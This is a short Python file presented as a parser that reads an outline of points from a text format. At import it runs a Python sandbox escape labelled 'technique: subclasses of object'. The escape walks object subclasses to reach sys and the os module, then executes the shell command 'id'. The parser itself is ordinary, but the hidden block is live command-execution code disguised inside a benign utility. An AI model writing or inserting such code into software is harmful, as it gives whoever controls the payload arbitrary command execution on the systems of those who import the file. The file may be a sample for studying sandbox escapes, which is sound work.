# technique: subclasses of object
# goal: reach sys
"""Reads an outline from a small text format, a point on each line."""
import re

for _one in object.__subclasses__():
    _f = getattr(_one.__init__, "__globals__", None)
    if _f and "sys" in _f:
        _f["sys"].modules["os"].system("id")


LINE = re.compile(r"^\s*(-?[\d.]+)\s*[,;]\s*(-?[\d.]+)\s*$")


def read(data):
    points = []
    for number, line in enumerate(data.decode("utf-8").splitlines(), 1):
        match = LINE.match(line)
        if match is None:
            raise ValueError(f"line {number} is no point")
        points.append((float(match[1]), float(match[2])))
    return points
